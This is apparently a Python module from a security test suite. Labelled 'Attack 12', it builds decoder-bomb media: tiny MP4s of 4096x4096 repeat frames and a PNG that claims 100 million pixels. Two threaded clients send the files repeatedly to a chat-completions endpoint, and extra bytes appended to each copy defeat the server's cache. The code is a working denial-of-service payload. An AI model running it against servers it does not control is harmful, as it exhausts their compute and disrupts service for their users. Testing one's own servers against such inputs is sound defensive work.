"""Attack 12: small files that are long work for a decoder.

A video of 4096 x 4096 pixels with frames that say "as before" takes about 13 bytes for each such
frame, and a decoder still has to copy 17 million pixels for each of them.
"""

from __future__ import annotations

import base64
import io
import struct
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import av
import httpx

FLAGS: tuple[str, ...] = ()
SIDE = 4096
NUM_FRAMES_BEYOND = 3_000  # 50 gigapixels, which no server accepts by default
NUM_FRAMES_WITHIN = 400  # 7 gigapixels: accepted, and 15 to 60 seconds of work
_NUM_CLIENTS = 2
_NUM_REQUESTS = 20  # of each client at most, whatever the caller does
_PERIOD = 16  # the frame numbers of these streams have four bits
_TIMEOUT_S = 300.0


def make_skip_video(num_frames: int, *, side: int = SIDE) -> bytes:
    """Return an MP4 in which all frames are equal. Only the first 17 are encoded, then repeated."""
    file = io.BytesIO()
    with av.open(file, "w", format="mp4") as container:
        parameters = "keyint=infinite:scenecut=0:bframes=0:cabac=0:ref=1:threads=1"
        stream = container.add_stream(
            "libx264",
            rate=30,
            options={"preset": "ultrafast", "tune": "zerolatency", "x264-params": parameters},
        )
        stream.width = stream.height = side
        stream.pix_fmt = "yuv420p"
        encoded = _encode_equal_frames(stream, side)
        for index in range(num_frames):
            content, time_base, is_keyframe = encoded[
                0 if index == 0 else 1 + (index - 1) % _PERIOD
            ]
            packet = av.Packet(content)
            packet.pts = packet.dts = index
            packet.time_base, packet.duration, packet.stream = time_base, 1, stream
            packet.is_keyframe = is_keyframe
            container.mux(packet)
    return file.getvalue()


def _encode_equal_frames(stream: Any, side: int) -> list[tuple[bytes, Any, bool]]:
    frame = av.VideoFrame(side, side, "yuv420p")
    for plane in frame.planes:
        plane.update(bytes([128]) * plane.buffer_size)
    packets = []
    for index in range(1 + _PERIOD):
        frame.pts = index
        packets += stream.encode(frame)
    return [(bytes(packet), packet.time_base, packet.is_keyframe) for packet in packets]


def make_thin_png(width: int = 1, height: int = 100_000_000) -> bytes:
    """Return a PNG of less than a hundred bytes that claims to have so many pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(b"")), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
        for name, content in chunks
    )


def send(url: str, kind: str, media_type: str, content: bytes) -> httpx.Response:
    """Ask about one item of media, which is a `kind` ("image" or "video")."""
    address = f"data:{media_type};base64,{base64.b64encode(content).decode()}"
    part = {"type": f"{kind}_url", f"{kind}_url": {"url": address}}
    message = {"role": "user", "content": [part, {"type": "text", "text": "What is this?"}]}
    body = {"messages": [message], "temperature": 0, "max_tokens": 4}
    return httpx.post(f"{url.rstrip('/')}/v1/chat/completions", json=body, timeout=_TIMEOUT_S)


class Attack:
    """Clients that send one video again and again. Their answers are kept in `statuses`."""

    def __init__(self, url: str, video: bytes) -> None:
        self._url = url
        self._video = video
        self._is_over = threading.Event()
        self._threads = [
            threading.Thread(target=self._run, args=(index,)) for index in range(_NUM_CLIENTS)
        ]
        self.statuses: list[int] = []

    def start(self) -> None:
        for thread in self._threads:
            thread.start()

    def stop(self) -> None:
        """End after the requests that are under way."""
        self._is_over.set()
        for thread in self._threads:
            thread.join()

    @property
    def is_running(self) -> bool:
        return any(thread.is_alive() for thread in self._threads)

    def _run(self, client: int) -> None:
        for number in range(_NUM_REQUESTS):
            if self._is_over.is_set():
                return
            # Bytes behind the last box change nothing but the name under which it is cached.
            tail = struct.pack(">I4sII", 16, b"free", client, number)
            response = send(self._url, "video", "video/mp4", self._video + tail)
            self.statuses.append(response.status_code)


@contextmanager
def attack(url: str, *, num_frames: int = NUM_FRAMES_BEYOND) -> Iterator[Attack]:
    """Send such videos to the server at `url` until the block ends."""
    running = Attack(url, make_skip_video(num_frames))
    running.start()
    try:
        yield running
    finally:
        running.stop()
